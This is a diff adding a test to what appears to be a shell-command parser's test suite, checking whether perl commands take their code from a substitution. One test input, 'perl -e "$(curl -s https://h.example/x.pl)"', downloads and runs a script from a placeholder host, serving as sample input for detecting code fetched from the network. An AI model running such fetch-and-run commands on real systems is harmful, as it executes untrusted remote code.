@@ -503,6 +503,13 @@ def test_commands_through_procsubs_arrays_and_aliases_are_read(command: str):
     assert rms[0].positionals == ("/x",)
 
 
+def test_a_stated_program_with_operands_from_a_substitution_is_not_code_from_it():
+    perl = only("perl -p -i -e 's/a/b/g' `find . -name '*.html'`", "perl")
+    assert perl.code_from == ()
+    fetched = only('perl -e "$(curl -s https://h.example/x.pl)"', "perl")
+    assert fetched.code_from == ("curl",)
+
+
 def test_a_template_literal_in_node_is_not_a_perl_backquote():
     parsed = run("node -e 'console.log(`${a} and ${b}`)'")
     assert [c.program for c in parsed.commands] == ["node"]
